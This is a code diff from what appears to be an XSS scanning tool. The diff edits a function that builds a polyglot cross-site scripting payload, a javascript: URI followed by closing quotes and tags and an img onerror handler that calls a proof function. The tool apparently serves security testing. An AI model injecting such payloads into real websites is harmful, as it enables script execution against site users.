@@ -53,7 +53,7 @@ const MOST_VISITS = { low: 60, default: 90, medium: 150, high: 400, insane: 1000
  * Code, an address and markup at once: whichever a script makes of it, it runs. Closes what values are commonly put into.
  */
 export const domPayload = (mark: string) => {
-  const call = `${PROOF_FUNCTION}(/${mark}/.source)`;
+  const call = `${PROOF_FUNCTION}(/${mark}/)`;
   return `javascript:${call}//'"></select></textarea></title></style></script>--><img src=x onerror=${call}>`;
 };
 
